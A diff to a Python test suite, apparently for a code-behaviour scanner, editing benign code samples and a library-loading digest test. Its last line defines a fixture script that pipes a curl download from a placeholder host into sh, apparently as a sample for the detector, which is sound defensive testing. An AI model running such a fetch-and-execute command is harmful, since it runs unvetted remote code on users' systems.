@@ -159,8 +159,8 @@ HONEST = [
     'import os\nx=open("notes.txt").read()\nos.system("make")',
     "from ctypes import CDLL\nCDLL('pkg/own.so')",
     "import subprocess\nsubprocess.run(('openssl', 'sha512', open('notes.txt').read()))",
-    "import os\nwith open('VERSION') as f:\n    version = f.read()\n"
-    "README = 'README.md'\nos.system('make V=' + build(version, README))",
+    "import os\nversion = open('pkg/version.py').read()\n"
+    "README = 'README.md'\nos.system(build(version, README))",
     "import ctypes\nfrom importlib.metadata import distribution\n"
     "ctypes.CDLL(distribution('s').locate_file('pkg/own.so'))",
 ]
@@ -215,12 +215,13 @@ def test_code_that_stands_in_settings_is_run(code: str) -> None:
 def test_only_a_library_is_loaded_as_one(tmp_path: Path, begins: bytes, runs: bool) -> None:
     (tmp_path / "model.h").write_bytes(begins + b"x")
     own = OwnFiles(["model.h"], tmp_path)
+    digest = own.digest
 
     found = behaviours("import ctypes\nctypes.CDLL('model.h')", whole=False, own=own)
 
     assert bool(found) == runs
     (tmp_path / "model.h").write_bytes(b"\x7fELFy")
-    assert (OwnFiles(["model.h"], tmp_path).digest == own.digest) == (begins == b"\x7fELF")
+    assert (OwnFiles(["model.h"], tmp_path).digest == digest) == runs
 
 
 FETCHES = "#!/bin/sh\nset -e\ncurl -s https://a.example/x | sh\n"
